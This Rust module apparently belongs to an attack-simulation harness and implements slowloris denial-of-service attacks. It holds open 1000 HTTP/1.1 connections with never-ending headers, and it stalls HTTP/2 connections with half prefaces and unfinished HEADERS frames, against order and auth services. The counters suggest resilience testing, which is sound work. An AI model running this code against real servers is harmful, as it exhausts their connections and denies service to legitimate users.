//! Requests whose headers never end, in HTTP/1.1 ("slowloris") and HTTP/2.

use std::{sync::Arc, time::Duration};

use tokio::time::sleep;

use super::Attacker;
use crate::wire::{Connection, Http2, frames};

const CONNECTIONS: u32 = 1000;
const REPEAT_DELAY: Duration = Duration::from_secs(1);
const BYTE_INTERVAL: Duration = Duration::from_secs(2);

pub async fn http1(attacker: Arc<Attacker>) {
    attacker
        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, _| async move {
            let target = &attacker.entrances.order;
            let Ok(mut connection) = Connection::open(&attacker, target).await else { return };
            let begin = format!("GET /api/v1/orders HTTP/1.1\r\nHost: {target}\r\nX-Slow: ");
            attacker.has_sent(1);
            if connection.write(begin.as_bytes()).await.is_ok() {
                trickle(&mut connection).await;
            }
        })
        .await;
}

/// Sends half a preface on every second connection, and on the others a HEADERS frame that is not the last.
pub async fn http2(attacker: Arc<Attacker>) {
    attacker
        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, number| async move {
            let target = &attacker.entrances.iam;
            if number % 2 == 0 {
                let Ok(mut connection) = Connection::open(&attacker, target).await else { return };
                attacker.has_sent(1);
                if connection.write(&frames::PREFACE[..12]).await.is_ok() {
                    connection.wait_for_close().await;
                }
                return;
            }
            let Ok(connection) = Http2::open(&attacker, target).await else { return };
            let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
            let mut is_first = true;
            connection
                .drive(|| {
                    let first = std::mem::take(&mut is_first);
                    let bytes = if first {
                        attacker.has_sent(1);
                        frames::unfinished_headers(1, &block)
                    } else {
                        frames::continuation(1, &frames::block(&[("x", "y")]), false)
                    };
                    async move {
                        if !first {
                            sleep(BYTE_INTERVAL).await;
                        }
                        Some(bytes)
                    }
                })
                .await;
        })
        .await;
}

/// Sends a byte every two seconds until the server closes the connection.
async fn trickle(connection: &mut Connection) {
    loop {
        // The server may close the connection during the pause.
        if tokio::time::timeout(BYTE_INTERVAL, connection.wait_for_close()).await.is_ok() {
            return;
        }
        if connection.write(b"x").await.is_err() {
            return connection.attacker.was_refused();
        }
    }
}
